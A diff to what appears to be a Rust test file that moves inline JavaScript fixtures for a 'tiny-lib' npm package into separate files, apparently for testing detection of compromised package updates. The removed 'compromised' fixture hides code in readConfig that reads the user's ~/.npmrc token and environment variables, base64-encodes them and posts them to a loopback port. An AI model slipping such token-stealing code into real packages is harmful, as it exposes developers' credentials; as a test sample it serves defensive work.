@@ -438,68 +438,13 @@ const util = require('./lib/util');
 module.exports = { pad: util.pad, readConfig: util.readConfig };
 ";
 
-const LIB_UTIL_JS: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const LIB_UTIL_JS: &str = include_str!("fixtures/tiny-lib/util.js");
 
 /// An ordinary update: a comment, a new option, a new pure helper, lines moved.
-const LIB_UTIL_JS_UPDATED: &str = "'use strict';
-// Helpers.
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n, fill = ' ') {
-  return String(s).padStart(n, fill);
-}
-
-function padRight(s, n) {
-  return String(s).padEnd(n);
-}
-
-function readConfig(dir, name = 'config.json') {
-  const text = fs.readFileSync(path.join(dir, name), 'utf8');
-  return JSON.parse(text);
-}
-
-module.exports = { pad, padRight, readConfig };
-";
+const LIB_UTIL_JS_UPDATED: &str = include_str!("fixtures/tiny-lib/util-updated.js");
 
 /// `readConfig` also reads the user's npm token and posts it (to a closed loopback port).
-const LIB_UTIL_JS_COMPROMISED: &str = "'use strict';
-const fs = require('fs');
-const path = require('path');
-
-function pad(s, n) {
-  return String(s).padStart(n);
-}
-
-function readConfig(dir) {
-  const text = fs.readFileSync(path.join(dir, 'config.json'), 'utf8');
-  const os = require('os');
-  const http = require('http');
-  const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
-  const body = Buffer.from(JSON.stringify({ token, env: process.env })).toString('base64');
-  const req = http.request({ host: '127.0.0.1', port: 9, path: '/collect', method: 'POST' });
-  req.on('error', () => {});
-  req.write(body);
-  req.end();
-  return JSON.parse(text);
-}
-
-module.exports = { pad, readConfig };
-";
+const LIB_UTIL_JS_COMPROMISED: &str = include_str!("fixtures/tiny-lib/util-compromised.js");
 
 /// `tiny-lib` at `version` as an npm tarball, with `util` as `lib/util.js`, `extra` added to
 /// its manifest and `more` files.
